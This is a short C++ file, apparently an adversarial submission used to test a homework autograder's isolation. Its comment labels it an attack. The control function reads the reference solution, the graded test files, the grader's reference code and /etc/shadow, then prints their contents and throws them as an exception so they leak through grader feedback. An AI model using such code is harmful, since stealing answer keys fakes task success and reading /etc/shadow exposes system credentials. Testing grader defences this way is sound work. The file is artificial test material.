// Attack: read the reference solution and the graded tests at run time and carry them out in
// the feedback (prints and an exception's text).
#include <problems/1b/contract.hpp>

#include <fstream>
#include <iostream>
#include <sstream>
#include <stdexcept>

namespace opspace::hw2::p1b {
Vector6d control(Part, const State&, const Goal&) {
  std::string loot;
  for (const char* path : {"@REPO@/solutions/p1b.cpp", "@REPO@/problems/1b/grade/graded.cpp", "@REPO@/grader/suite/grade/reference.cpp",
                           "/etc/shadow"}) {
    std::ifstream in(path);
    std::stringstream text;
    text << in.rdbuf();
    loot += text.str();
  }
  std::cout << loot << std::endl;
  if (!loot.empty()) throw std::runtime_error(loot);
  return Vector6d::Zero();
}
}  // namespace opspace::hw2::p1b
